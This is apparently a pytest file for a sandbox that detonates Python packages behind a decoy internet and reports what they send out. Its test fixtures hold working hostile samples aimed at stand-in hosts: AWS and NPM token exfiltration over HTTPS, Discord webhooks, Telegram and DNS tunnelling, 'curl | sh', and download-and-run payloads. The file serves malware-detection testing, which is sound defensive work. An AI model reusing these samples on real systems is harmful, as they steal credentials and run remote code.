"""The decoy internet in real runs: what a package says to the world is in the report, word for
word, and nothing of it has left.
"""

import os
import shutil
from dataclasses import replace
from typing import Any

import pytest
from conftest import Snakehook
from hostile import assert_nothing_is_left, findings, in_one_jail, own_phase, targets
from standins import Index

from jail.orders import PROGRAMS

CURL = pytest.mark.skipif(not shutil.which("curl"), reason="there is no curl here")


def reported(program: Snakehook, index: Index, source: str, **settings: object) -> dict[str, Any]:
    """The report of a package whose module does this."""
    index.add_wheel("chatty", "1.0", {"chatty.py": source})
    _, report, _ = program.triage("chatty", *in_one_jail("chatty"), **settings)
    assert report["phases"], report["reason"]
    assert_nothing_is_left(program.state, program.cache)
    return report


def printed(report: dict[str, Any]) -> str:
    phase = own_phase(report)
    text: str = phase["stdout"]["text"]
    assert phase["exit_code"] == 0, (report["reason"], phase["stderr"]["text"])
    return text


def connections(report: dict[str, Any], target: str) -> list[dict[str, Any]]:
    return [item for item in report["network"] if target in item["target"]]


EXFILTRATION = """
import json, os, urllib.request
body = json.dumps({"key": os.environ["AWS_SECRET_ACCESS_KEY"]}).encode()
request = urllib.request.Request("https://evil.example.com/c?host=build", body, {"X-Kind": "steal"})
with urllib.request.urlopen(request, timeout=10) as answer:
    print(answer.status)
"""


def test_what_is_stolen_and_where_it_is_sent_to_is_told(program: Snakehook, index: Index) -> None:
    report = reported(program, index, EXFILTRATION)
    assert printed(report) == "200\n"
    assert report["coverage"]["decoy_internet"] == "full"
    (request,) = report["requests"]
    assert request["method"] == "POST"
    assert request["url"] == "https://evil.example.com/c?host=build"
    assert ["X-Kind", "steal"] in request["headers"]
    assert request["bait"] == ["AWS_SECRET_ACCESS_KEY"]
    assert request["status"] == 200
    assert '{"key": "' in request["body"]["text"]
    assert (request["phase"], request["trigger"]) == ("execute", "python -m chatty")
    assert request["place"].endswith("chatty.py:5")
    (sent,) = (found for found in report["findings"] if found["rule"] == "secret.sent")
    assert sent["severity"] == "high"
    assert sent["title"] == "sends AWS_SECRET_ACCESS_KEY to https://evil.example.com/c?host=build"
    assert sent["at"].endswith("chatty.py:5")
    (connection,) = connections(report, ":443")
    assert connection["answer"] == "decoy"
    assert connection["tls"] == {"sni": "evil.example.com", "trusted_us": True}
    assert connection["name"] == "evil.example.com"
    # One act, one line: neither the name nor the connection is told again.
    attempts = findings(report, "network.attempt")
    assert len(attempts) == 1
    assert attempts[0].startswith("POST https://evil.example.com/c?host=build, ")


def test_source_that_is_fetched_and_executed_is_told(program: Snakehook, index: Index) -> None:
    source = (
        "import urllib.request\n"
        "exec(urllib.request.urlopen('https://stage.example.com/two.py').read())\n"
    )
    report = reported(program, index, source)
    printed(report)
    (found,) = (found for found in report["findings"] if found["rule"] == "code.remote")
    assert found["severity"] == "high"
    assert "https://stage.example.com/two.py" in found["title"]
    # What the served source does is not the package's.
    assert not any("/bin/true" in title for title in findings(report, "process.spawn"))


@CURL
def test_a_script_that_is_fetched_and_piped_to_a_shell_is_told(
    program: Snakehook, index: Index
) -> None:
    source = "import os\nos.system('curl -fsSL https://get.example.com/install.sh | sh')\n"
    report = reported(program, index, source)
    printed(report)
    titles = findings(report, "code.remote")
    assert "executes what it fetched from https://get.example.com/install.sh" in titles
    (request,) = report["requests"]
    assert request["method"] == "GET"
    assert "curl" in request["process"]


def test_a_program_that_is_fetched_made_executable_and_run_is_told(
    program: Snakehook, index: Index
) -> None:
    source = (
        "import os, subprocess, urllib.request\n"
        "urllib.request.urlretrieve('http://drop.example.com/agent', '/tmp/agent')\n"
        "os.chmod('/tmp/agent', 0o755)\n"
        "subprocess.run(['/tmp/agent'], check=True)\n"
    )
    report = reported(program, index, source)
    printed(report)
    titles = findings(report, "code.remote")
    assert "executes what it fetched from http://drop.example.com/agent" in titles
    assert any(title.endswith("/agent: /tmp/agent") for title in titles)


def test_bytes_without_a_protocol_are_kept_with_who_spoke_first(
    program: Snakehook, index: Index
) -> None:
    source = (
        "import socket\n"
        "with socket.create_connection(('45.9.148.3', 4444), timeout=10) as sock:\n"
        "    sock.sendall(b'hello, master\\n')\n"
        "with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:\n"
        "    sock.sendto(b'beacon 7', ('45.9.148.3', 9999))\n"
        "with socket.create_connection(('2606:4700::1111', 8443), timeout=10) as sock:\n"
        "    sock.sendall(b'six')\n"
    )
    report = reported(program, index, source)
    printed(report)
    (tcp,) = connections(report, "45.9.148.3:4444")
    assert (tcp["kind"], tcp["answer"]) == ("tcp", "decoy")
    assert (tcp["payload"]["text"], tcp["payload"]["bytes"]) == ("hello, master\n", 14)
    (udp,) = connections(report, "45.9.148.3:9999")
    assert (udp["kind"], udp["payload"]["text"]) == ("udp", "beacon 7")
    (six,) = connections(report, "2606:4700::1111")
    assert six["payload"]["text"] == "six"
    assert any("45.9.148.3:4444" in title for title in findings(report, "network.attempt"))


def test_any_resolver_is_answered_and_its_names_are_put_together(
    program: Snakehook, index: Index
) -> None:
    source = (
        "import base64, os, socket\n"
        "secret = base64.b32encode(os.environ['AWS_SECRET_ACCESS_KEY'].encode()).decode()\n"
        "secret = secret.strip('=').lower()\n"
        "def ask(number, resolver):\n"
        "    part = secret[number * 30:][:30]\n"
        "    labels = [part, str(number), 'drain', 'example', 'com']\n"
        "    name = b''.join(bytes([len(label)]) + label.encode() for label in labels)\n"
        "    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sock:\n"
        "        sock.settimeout(10)\n"
        "        sock.connect((resolver, 53))\n"
        "        head = b'\\x12\\x34\\1\\0\\0\\1\\0\\0\\0\\0\\0\\0'\n"
        "        sock.send(head + name + b'\\0\\0\\1\\0\\1')\n"
        "        return sock.recv(4096)[3] & 15\n"
        "print([ask(0, '8.8.8.8'), ask(1, '9.9.9.9'), ask(2, '127.0.0.1')])\n"
    )
    report = reported(program, index, source)
    assert printed(report) == "[0, 0, 0]\n"
    asked = [item for item in report["network"] if "drain.example.com" in item["target"]]
    assert [(item["questions"], item["answer"]) for item in asked] == [(["A"], "decoy")] * 3
    # Python's own socket asked; it hid nothing.
    assert not findings(report, "witness.hidden")
    (resolver,) = connections(report, "9.9.9.9:53")
    assert resolver["answer"] == "decoy"
    assert any(
        "AWS_SECRET_ACCESS_KEY in names below example.com" in title
        for title in findings(report, "secret.sent")
    )


WEBHOOK = "https://discord.com/api/webhooks/112233/abcDEF-ghi"
BOT = "https://api.telegram.org/bot99:AAtoken/sendMessage"


def test_webhooks_and_bots_are_told_in_full(program: Snakehook, index: Index) -> None:
    source = f"""
import io, os, urllib.request, zipfile
file = io.BytesIO()
with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
    archive.writestr("loot.txt", os.environ["NPM_TOKEN"])
body = b'--b\\r\\nContent-Disposition: form-data; name="f"; filename="l.zip"\\r\\n\\r\\n'
body += file.getvalue() + b"\\r\\n--b--\\r\\n"
kind = {{"Content-Type": "multipart/form-data; boundary=b", "User-Agent": "python-requests/2"}}
print(urllib.request.urlopen(urllib.request.Request({WEBHOOK!r}, body, kind)).status)
print(urllib.request.urlopen({BOT!r}, b"chat_id=5&text=hi").read())
"""
    report = reported(program, index, source)
    assert printed(report).startswith("204\n")
    assert [request["url"] for request in report["requests"]] == [WEBHOOK, BOT]
    assert f"sends NPM_TOKEN to {WEBHOOK}" in findings(report, "secret.sent")


def test_the_whole_environment_is_told_though_no_bait_is_in_it(
    program: Snakehook, index: Index
) -> None:
    source = (
        "import json, os, urllib.request\n"
        "ORDINARY = ('HOME', 'PATH', 'LANG', 'USER', 'SHELL', 'LOGNAME', 'TERM', 'PWD')\n"
        "kept = {k: v for k, v in os.environ.items() if k in ORDINARY}\n"
        "urllib.request.urlopen('http://env.example.com/', json.dumps(kept).encode())\n"
    )
    report = reported(program, index, source)
    printed(report)
    assert findings(report, "secret.sent") == [
        "sends its whole environment to http://env.example.com/"
    ]


def test_localhost_is_as_on_any_machine(program: Snakehook, index: Index) -> None:
    source = """
import errno, socket, threading
def reach(host, port):
    try:
        socket.create_connection((host, port), timeout=5).close()
    except OSError as error:
        return errno.errorcode[error.errno]
print([reach("127.0.0.1", 80), reach("127.0.0.1", 9), reach("::1", 443), reach("10.0.2.15", 9)])
server = socket.create_server(("127.0.0.1", 0))
client = socket.create_connection(server.getsockname())
far, _ = server.accept()
far.sendall(b"own")
print(client.recv(9))
"""
    report = reported(program, index, source)
    assert printed(report) == f"{['ECONNREFUSED'] * 4}\nb'own'\n"


def test_without_the_decoy_internet_nothing_answers(program: Snakehook, index: Index) -> None:
    report = reported(program, index, EXFILTRATION, DECOY_INTERNET="false")
    assert own_phase(report)["outcome"] == "failed"
    assert report["coverage"]["decoy_internet"] == "off"
    assert report["requests"] == []
    assert targets(report, ["dns"]) == {"evil.example.com"}
    assert any("evil.example.com" in title for title in findings(report, "network.attempt"))
    assert all(item["answer"] == "refused" for item in report["network"])


def test_where_nft_is_missing_the_well_known_ports_are_answered(
    program: Snakehook, index: Index
) -> None:
    nft = shutil.which("nft", path=PROGRAMS)
    if not nft or os.geteuid() != 0:
        pytest.skip("needs root, and nft to be taken away")
    # In a mount namespace of its own, the tool is a file that can't be executed.
    hide = ("unshare", "--mount", "sh", "-c", 'mount --bind /dev/null "$0"; exec "$@"', nft)
    without = replace(program, command=[*hide, *program.command])
    source = EXFILTRATION + (
        "import socket\n"
        "for port in (4444, 4445):\n"
        "    try:\n"
        "        socket.create_connection(('45.9.148.3', port), timeout=5).close()\n"
        "        print(port)\n"
        "    except ConnectionRefusedError:\n"
        "        print('refused')\n"
    )
    report = reported(without, index, source)
    assert printed(report) == "200\n4444\nrefused\n"
    assert report["coverage"]["decoy_internet"] == "ports"
    assert report["requests"][0]["bait"] == ["AWS_SECRET_ACCESS_KEY"]
    sent = "sends AWS_SECRET_ACCESS_KEY to https://evil.example.com/c?host=build"
    assert findings(report, "secret.sent") == [sent]


def test_who_only_looks_whether_a_host_is_there_is_told_and_harmless_otherwise(
    program: Snakehook, index: Index
) -> None:
    source = """
import socket
try:
    socket.create_connection(("internet.example.com", 443), timeout=5).close()
except OSError:
    pass
"""
    report = reported(program, index, source)
    printed(report)
    assert [found["rule"] for found in report["findings"]] == ["network.attempt"]


def test_a_run_has_names_and_certificates_of_its_own(program: Snakehook, index: Index) -> None:
    source = (
        "import hashlib, socket, ssl\n"
        "print(socket.gethostbyname('same.example.com'))\n"
        "bundle = open('/etc/ssl/certs/ca-certificates.crt', 'rb').read()\n"
        "print(hashlib.sha256(bundle).hexdigest())\n"
    )
    first = printed(reported(program, index, source)).split()
    second = printed(reported(program, index, source)).split()
    assert first[0] != second[0]
    assert first[1] != second[1]


def test_the_jail_can_not_change_what_it_trusts(program: Snakehook, index: Index) -> None:
    source = (
        "import os\n"
        "for what in ('/etc/ssl/certs/x', '/etc/ssl/certs/ca-certificates.crt'):\n"
        "    try:\n"
        "        open(what, 'a')\n"
        "        print('written')\n"
        "    except OSError as error:\n"
        "        print(error.strerror)\n"
    )
    assert printed(reported(program, index, source)) == "Read-only file system\n" * 2
